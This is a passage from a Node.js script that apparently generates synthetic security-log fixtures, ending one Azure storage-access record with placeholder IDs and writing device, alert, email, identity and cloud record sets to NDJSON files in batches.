    IsKnownSuspiciousIp: true, IsPrivateIp: false, SuspiciousUserAgentName: '', AzureResourceId: '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/contosodata',
    Location: 'westeurope', ReportId: 'csa-0001', ActionType: 'StorageBlobAccess', AdditionalFields: '',
  }),
];

fs.mkdirSync(out, { recursive: true });
const write = (name, records, perBody) => {
  const lines = [];
  for (let i = 0; i < records.length; i += perBody) lines.push(JSON.stringify({ records: records.slice(i, i + perBody) }));
  fs.writeFileSync(path.join(out, name), lines.join('\n') + '\n');
};
write('device.ndjson', device, 4);
write('alerts.ndjson', alerts, 4);
write('email-and-teams.ndjson', email, 3);
write('identity-and-apps.ndjson', identity, 5);
write('cloud.ndjson', cloud, 3);
console.log(`wrote ${device.length + alerts.length + email.length + identity.length + cloud.length} records to ${out}`);
